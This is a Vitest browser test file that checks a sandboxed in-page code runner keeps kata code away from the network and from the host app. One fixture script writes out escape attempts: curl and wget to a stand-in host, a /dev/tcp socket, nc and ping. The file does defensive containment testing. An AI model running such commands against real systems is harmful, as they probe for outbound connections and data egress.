import { commands } from 'vitest/browser';
import { describe, expect, test } from 'vitest';
import { waysOut } from '../support/ways-out.ts';
import { waysOutPython } from '../support/ways-out-python.ts';

// The runner in a page as it is built, under the app's own policy, with a second server beside it
// that counts what reaches it.

type Told = Readonly<Record<string, string>>;

describe('in the app as it is built', () => {
  test('a run works under its policy, below a folder', async () => {
    const { result, complaints, hasSandboxAttribute } = await commands.inBuiltPage({
      files: {
        'cyber-dojo.sh': 'node test.js | sort\n',
        'test.js':
          "require('assert').equal(require('./a'), 42); console.log('b'); console.log('a');",
        'a.js': 'module.exports = 42',
      },
    });
    expect(result).toMatchObject({ kind: 'finished', stdout: 'a\nb\n', stderr: '', status: '0' });
    expect(complaints).toEqual([]);
    expect(hasSandboxAttribute).toBe(true);
  });

  test('the server beside it would count', async () => {
    const { hits } = await commands.inBuiltPage({ control: true, files: { 'cyber-dojo.sh': '' } });
    expect(hits).toEqual(['GET /control']);
  });

  test('hostile code of a kata reaches no network and nothing of the app', async () => {
    const { result, hits, heard } = await commands.inBuiltPage({
      files: {
        'cyber-dojo.sh':
          'curl http://OUTSIDE/curl; wget http://OUTSIDE/wget; exec 3<>/dev/tcp/127.0.0.1/80; nc OUTSIDE; ping OUTSIDE\nnode out.js\n',
        'out.js': `${waysOut} tell().then((told) => console.log(JSON.stringify(told)));`,
      },
    });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = JSON.parse(result.stdout) as Told;
    expect(Object.keys(told).length).toBe(31);
    expect(Object.entries(told).filter(([, what]) => what.startsWith('OUT'))).toEqual([]);
    expect(told['page']).toBe('undefinedundefinedundefined');
  });

  test('nor does hostile Python', async () => {
    const { result, hits, heard } = await commands.inBuiltPage({
      files: waysOutPython,
      imageName: 'pocket-dojo/python_unittest',
    });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = result.stdout.split('\n').filter((line) => line.includes('\t'));
    expect(told.length).toBeGreaterThan(20);
    expect(told.filter((line) => line.includes('\tOUT'))).toEqual([]);
  });

  test('nor does code that has got the whole worker', async () => {
    const worker = `${waysOut}
onmessage = ({ ports: [port] }) => {
  port.onmessage = async () => {
    const stdout = JSON.stringify(await tell());
    const truncations = { stdout: false, stderr: false };
    port.postMessage({ kind: 'ran', ran: { stdout, stderr: '', status: '0', truncations, created: {}, changed: {} } });
  };
  port.postMessage({ kind: 'ready' });
};`;
    const { result, hits, heard } = await commands.inBuiltPage({ files: {}, worker });
    expect(hits).toEqual([]);
    expect(heard).toEqual([]);
    if (result.kind !== 'finished') throw new Error(JSON.stringify(result));
    const told = JSON.parse(result.stdout) as Told;
    expect(Object.entries(told).filter(([, what]) => what.startsWith('OUT'))).toEqual([]);
    expect(told['database']).toMatch(/SecurityError|Access/);
    expect(told['page']).toBe('undefinedundefinedundefined');
  });
});
